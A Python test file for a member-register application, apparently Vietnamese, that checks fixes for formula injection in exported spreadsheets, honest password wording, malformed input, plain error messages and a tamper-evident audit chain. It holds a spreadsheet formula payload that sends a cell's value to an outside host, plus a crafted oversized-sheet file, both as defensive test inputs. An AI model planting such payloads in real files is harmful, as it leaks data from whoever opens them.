"""Issue 15, items 4-8: formulas in written files, the honest password, bad input, errors in plain words,
and the history's hash chain. Each test reproduces the finding and shows it refused or neutralised."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import sqlite3
import uuid
import zipfile

import openpyxl
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

import main
from models import EventKind, Member, MemberEvent, MemberReview
from services import access, audit, logs
from services import members as svc
from services.db import open_database
from services.errors import UserError, ValidationError
from services.exchange.committee import accept_held, receive_bytes
from services.exchange.report import write_committee_report
from services.member_export import export_register
from services.member_import import read_import
from tests.engines import rows_of
from tests.exchange_support import make_committee
from tests.test_exchange_identity import scb

TODAY = dt.date(2025, 12, 15)
FORMULA = '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")'
DANGEROUS = [FORMULA, "+84 912 345", "-1+1", "@SUM(A1:A9)", "\tTab", "\rCR"]


def _plant(db) -> None:
    """Members whose text starts like a formula, as an older version (or another tool) stored them."""
    with db.begin() as s:
        for i, text in enumerate(DANGEROUS):
            m = Member(full_name=FORMULA if i == 0 else f"Người Số {i}", note=text, position=text)
            m.events.append(MemberEvent(kind=EventKind.ADMITTED, date=dt.date(2010, 1, 1)))
            s.add(m)


def _xlsx_text_cells(path) -> list[openpyxl.cell.cell.Cell]:
    cells = []
    for ws in openpyxl.load_workbook(path).worksheets:
        for row in ws.iter_rows():
            cells.extend(c for c in row if isinstance(c.value, str) and c.value.startswith(tuple("=+-@\t\r")))
    return cells


# --- item 4: formulas -------------------------------------------------------------------------------

def test_the_register_is_written_with_text_as_text(db, tmp_path):
    _plant(db)
    with db.begin() as s:
        export_register(s, tmp_path / "ds.xlsx", TODAY)
        export_register(s, tmp_path / "ds.csv", TODAY)
    cells = _xlsx_text_cells(tmp_path / "ds.xlsx")
    assert {c.value for c in cells} >= set(DANGEROUS) - {"\rCR"} | {"\rCR"} - {"\rCR"}
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    with zipfile.ZipFile(tmp_path / "ds.xlsx") as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet                                    # not one formula in the file
    with (tmp_path / "ds.csv").open(encoding="utf-8-sig", newline="") as fh:
        values = [v for row in csv.reader(fh) for v in row]
    for text in DANGEROUS:
        assert "'" + text in values and text not in values


def test_every_workbook_writer_stores_text_as_text(db, tmp_path):
    """The dues book has its own writer; attendance, year-end forms and summaries use write_xlsx."""
    from services.dues import export_book
    from services.member_export import write_xlsx

    _plant(db)
    with db.begin() as s:
        export_book(s, 2025, tmp_path / "dp.xlsx", TODAY)
    write_xlsx(tmp_path / "any.xlsx", "x", [["Họ và tên", "Ghi chú"], *[[FORMULA, t] for t in DANGEROUS]])
    for name in ("dp.xlsx", "any.xlsx"):
        cells = _xlsx_text_cells(tmp_path / name)
        assert any(c.value == FORMULA for c in cells), name
        assert all(c.data_type == "s" and c.quotePrefix for c in cells), name


def test_the_committee_summary_of_a_received_file_stores_a_formula_name_as_text(tmp_path):
    committee = make_committee(tmp_path / "du.db")
    try:
        result = receive_bytes(committee, scb(str(uuid.uuid4()), FORMULA, Ed25519PrivateKey.generate()), "f.scb")
        with committee.begin() as s:
            accept_held(s, result.file_id, result.fingerprint[:16])
        with committee.begin() as s:
            write_committee_report(s, 2020, tmp_path / "th.xlsx")
        cells = _xlsx_text_cells(tmp_path / "th.xlsx")
        assert [c.value for c in cells] == [FORMULA] and cells[0].data_type == "s" and cells[0].quotePrefix
    finally:
        committee.close()


def test_a_formula_is_not_a_name(db, tmp_path):
    with db.begin() as s, pytest.raises(ValidationError) as err:
        svc.add_member(s, svc.MemberInput(FORMULA, dt.date(2010, 1, 1)), TODAY)
    assert "chữ cái" in str(err.value)
    sheet = tmp_path / "nhap.csv"
    sheet.write_text("Họ và tên,Ngày vào Đảng\n" + f'"{FORMULA.replace(chr(34), chr(34) * 2)}",01/01/2010\n'
                     "Nguyễn Văn An,01/01/2010\n", encoding="utf-8")
    preview = read_import(sheet, today=TODAY)
    assert not preview.rows[0].ok and preview.rows[1].ok


# --- item 5: the password ------------------------------------------------------------------------------

def test_the_password_is_described_as_a_lock_of_the_window_everywhere(db, capsys, monkeypatch, tmp_path):
    monkeypatch.setattr(access, "SCRYPT_N", 2 ** 10)
    with db.begin() as s:
        access.set_password(s, "mat-khau-1", "mat-khau-1")
    path = str(db.target)
    db.close()
    with pytest.raises(SystemExit):
        main.main(["password", "--help"])
    assert "khóa cửa sổ chương trình, không mã hóa tệp" in " ".join(capsys.readouterr().out.split())
    # a command on a locked file runs (the command line does not ask), and says so
    assert main.main(["members", "export", "--db", path, "--out", str(tmp_path / "ds.csv")]) == 0
    assert "chỉ khóa cửa sổ chương trình, không mã hóa tệp" in capsys.readouterr().err
    from ui.dialogs.password_dialogs import honest_note

    assert "khóa cửa sổ chương trình" in honest_note() and "dòng lệnh" in honest_note()


# --- item 6: bad input --------------------------------------------------------------------------------

def _declared_huge_sheet(path, far_cell: str | None) -> None:
    """A small workbook whose sheet declares XFD1048576 (and, optionally, holds one cell far away)."""
    import re

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["Họ và tên", "Ngày vào Đảng"])
    ws.append(["Nguyễn Văn An", "01/01/2010"])
    buf = io.BytesIO()
    wb.save(buf)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]*" ?/>', b'<dimension ref="A1:XFD1048576"/>', data)
                if far_cell:
                    row = far_cell.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
                    data = data.replace(b"</sheetData>", f'<row r="{row}"><c r="{far_cell}" t="inlineStr">'
                                        f'<is><t>x</t></is></c></row></sheetData>'.encode())
            z.writestr(info, data)
    path.write_bytes(out.getvalue())


def test_a_sheet_declaring_xfd1048576_is_read_within_its_used_cells(tmp_path):
    """Before: 3 GB of memory and 18 s for this 5 KB file (rows padded to 16,384 columns, a million rows)."""
    from services.member_import import MAX_SHEET_COLUMNS, read_rows

    path = tmp_path / "to.xlsx"
    _declared_huge_sheet(path, "XFD1048576")
    assert path.stat().st_size < 6000
    [sheet] = read_rows(path)
    assert len(sheet.rows) == 2 and len(sheet.rows[0]) == 2 <= MAX_SHEET_COLUMNS
    _declared_huge_sheet(path, "A1048576")
    with pytest.raises(UserError) as err:
        read_rows(path)
    assert "20.000 dòng" in str(err.value)


@pytest.mark.parametrize("name", ["Nguyễn Văn\u202e An", "Lê\u200b Thị Đào", "Trần\x07 Văn Dũng", "\u2066Võ Thị Yến"])
def test_control_and_bidi_characters_in_names_are_refused(db, name):
    with db.begin() as s, pytest.raises(ValidationError) as err:
        svc.add_member(s, svc.MemberInput(name, dt.date(2010, 1, 1)), TODAY)
    assert "ký tự ẩn" in str(err.value)


def test_dates_out_of_range_are_refused(db):
    with db.begin() as s, pytest.raises(ValidationError) as err:
        svc.add_member(s, svc.MemberInput("Nguyễn Văn An", dt.date(2010, 1, 1), birth_date=dt.date(1899, 12, 31)), TODAY)
    assert "01/01/1900" in str(err.value)
    with db.begin() as s, pytest.raises(ValidationError) as err:
        svc.add_member(s, svc.MemberInput("Nguyễn Văn An", dt.date(1929, 1, 1)), TODAY)
    assert "thành lập Đảng" in str(err.value)
    with db.begin() as s:
        member_id = svc.add_member(s, svc.MemberInput("Nguyễn Văn An", dt.date(2010, 1, 1)), TODAY).id
    with db.begin() as s, pytest.raises(ValidationError) as err:
        svc.add_event(s, member_id, svc.EventInput(EventKind.SICK_LEAVE, dt.date(2025, 3, 1), dt.date(2205, 3, 1)),
                      TODAY)
    assert "10 năm" in str(err.value)
    with db.begin() as s:
        assert s.query(MemberEvent).count() == 1


# --- item 7: errors in plain words ---------------------------------------------------------------------

def _add_csv(tmp_path) -> str:
    sheet = tmp_path / "them.csv"
    sheet.write_text("Họ và tên,Ngày sinh,Ngày vào Đảng\nLê Thị Bình,02/01/1980,01/01/2011\n", encoding="utf-8")
    return str(sheet)


@pytest.mark.sqlite_only
def test_a_locked_database_disk_full_and_read_only_file_are_told_plainly(db, capsys, tmp_path):
    with db.begin() as s:
        svc.add_member(s, svc.MemberInput("Nguyễn Văn An", dt.date(2010, 1, 1), birth_date=dt.date(1980, 1, 2)), TODAY)
    path = str(db.path)
    db.close()
    # locked: another program holds the write lock longer than the wait
    holder = sqlite3.connect(path)
    holder.execute("BEGIN IMMEDIATE")
    try:
        import services.db as dbmod

        real = dbmod._sqlite_pragmas

        def quick(con, rec):
            real(con, rec)
            con.execute("PRAGMA busy_timeout=50")

        dbmod._sqlite_pragmas = quick
        try:
            code = main.main(["members", "import", "--db", path, _add_csv(tmp_path)])
        finally:
            dbmod._sqlite_pragmas = real
    finally:
        holder.rollback()
        holder.close()
    err = capsys.readouterr().err
    assert code == 1 and "đang được một chương trình khác ghi" in err
    assert "INSERT" not in err and "Lê Thị Bình" not in err and "không mong đợi" not in err


def _failing_writes(monkeypatch, message: str) -> None:
    """Engines whose INSERT INTO member fails as SQLite fails on a full disk or a read-only file."""
    from sqlalchemy import event

    import services.db as dbmod

    real = dbmod.make_engine

    def make(p):
        engine = real(p)

        def before(conn, cursor, statement, params, context, executemany):
            if statement.startswith("INSERT INTO member "):
                raise sqlite3.OperationalError(message)

        event.listen(engine, "before_cursor_execute", before)
        return engine

    monkeypatch.setattr(dbmod, "make_engine", make)


@pytest.mark.sqlite_only
def test_a_read_only_file_is_told_plainly(db, capsys, monkeypatch, tmp_path):
    _failing_writes(monkeypatch, "attempt to write a readonly database")
    path = str(db.path)
    db.close()
    code = main.main(["members", "import", "--db", path, _add_csv(tmp_path)])
    err = capsys.readouterr().err
    assert code == 1 and "chỉ đọc được" in err and "INSERT" not in err and "Lê Thị Bình" not in err


@pytest.mark.sqlite_only
def test_disk_full_is_told_plainly_and_the_log_holds_no_personal_data(db, capsys, monkeypatch, tmp_path):
    _failing_writes(monkeypatch, "database or disk is full")
    path = str(db.path)
    db.close()
    code = main.main(["members", "import", "--db", path, _add_csv(tmp_path)])
    err = capsys.readouterr().err
    assert code == 1 and "đã đầy" in err and "INSERT" not in err and "Lê Thị Bình" not in err
    # an unexpected SQL error with a member's values: the log names the error, never the values
    exc = sqlite3.IntegrityError("CHECK constraint failed: Lê Thị Bình 1980-01-02")
    logs.log_unexpected(exc, "test")
    text = logs.log_path().read_text(encoding="utf-8")
    assert "IntegrityError" in text and "Bình" not in text and "1980" not in text


# --- item 8: the history's chain -------------------------------------------------------------------------

def _trail(path) -> list[str]:
    from services.integrity import check_structure

    return check_structure(path).trail_problems


@pytest.mark.sqlite_only
def test_an_entry_changed_or_removed_outside_the_program_breaks_the_chain(db, capsys):
    with db.begin() as s:
        for name in ("Nguyễn Văn An", "Lê Thị Bình", "Trần Văn Cường"):
            svc.add_member(s, svc.MemberInput(name, dt.date(2010, 1, 1)), TODAY)
    path = db.path
    db.close()
    assert _trail(path) == []
    assert main.main(["check", "--db", str(path)]) == 0
    con = sqlite3.connect(path)
    ids = [r[0] for r in con.execute("SELECT id FROM audit_entry ORDER BY id")]
    con.execute("UPDATE audit_entry SET user = 'người khác' WHERE id = ?", (ids[1],))
    con.execute("DELETE FROM audit_entry WHERE id = ?", (ids[3],))
    con.commit()
    con.close()
    problems = _trail(path)
    assert any(f"dòng lịch sử số {ids[1]}" in p and "bị sửa" in p for p in problems)
    assert any(f"giữa dòng số {ids[2]} và dòng số {ids[4]}" in p for p in problems)
    assert main.main(["check", "--db", str(path)]) == 1
    assert "Lịch sử thay đổi: 2 vấn đề" in capsys.readouterr().out


@pytest.mark.sqlite_only
def test_a_record_of_a_closed_year_changed_outside_the_program_is_reported(db):
    from services.review.service import close_year, reopen_year

    with db.begin() as s:
        member_id = svc.add_member(s, svc.MemberInput("Nguyễn Văn An", dt.date(2010, 1, 1)), TODAY).id
        s.add(MemberReview(year=2024, member_id=member_id, proposed_level="HTTNV", criteria={}, flags={}))
    close_year(db, 2024, user="Từ Minh Điền")
    assert _trail(db.path) == []
    con = sqlite3.connect(db.path)
    con.execute("UPDATE member_review SET proposed_level = 'HTXSNV' WHERE year = 2024")
    con.commit()
    con.close()
    [problem] = _trail(db.path)
    assert "năm 2024" in problem and "ngoài chương trình" in problem
    # reopened in the program (its reason logged), changed, closed again: nothing to report
    reopen_year(db, 2024, "Sửa theo quyết định của cấp trên", user="Từ Minh Điền")
    with db.begin() as s:
        s.query(MemberReview).filter_by(year=2024).one().proposed_level = "HTTNV"
    close_year(db, 2024, user="Từ Minh Điền")
    assert _trail(db.path) == []
    with db.begin() as s:
        rows = audit.audit_rows(s)
    assert not any(r.action == "Khóa sổ năm" and "{" in r.new for r in rows)   # the seal is not shown


def test_the_chain_holds_under_writes_from_two_programs(db):
    other = open_database(db.target)
    try:
        for i in range(5):
            for target in (db, other):
                with target.begin() as s:
                    svc.add_member(s, svc.MemberInput(f"Đảng Viên Số {i} {id(target) % 7}", dt.date(2010, 1, 1)), TODAY)
    finally:
        other.close()
    with db.engine.connect() as conn:
        assert audit.trail_problems(conn) == []
    prevs = [r[0] for r in rows_of(db.engine, "audit_entry", "chain_prev", order="id")]
    assert len(prevs) == len(set(prevs))        # no fork: every entry has its own predecessor


def test_the_seal_lists_digests_only(db):
    from services.review.service import close_year

    close_year(db, 2024)
    with db.begin() as s:
        seal = s.query(audit.AuditEntry).filter_by(action=audit.SEAL).one()
    assert set(json.loads(seal.new)) == {"review_year", "member_review", "monthly_rating"}


@pytest.mark.sqlite_only
def test_opening_a_file_that_cannot_be_written_is_told_plainly(db, monkeypatch):
    """A file on a CD or a locked memory card: said so at the opening, not called damaged."""
    from sqlalchemy import event

    import services.db as dbmod
    from services.db import NotOurDatabaseError

    real = dbmod.make_engine

    def make(p):
        engine = real(p)

        def before(conn, cursor, statement, params, context, executemany):
            raise sqlite3.OperationalError("attempt to write a readonly database")

        event.listen(engine, "before_cursor_execute", before)
        return engine

    monkeypatch.setattr(dbmod, "make_engine", make)
    path = db.path
    db.close()
    with pytest.raises(UserError) as err:
        open_database(path)
    assert not isinstance(err.value, NotOurDatabaseError) and "chỉ đọc được" in str(err.value)
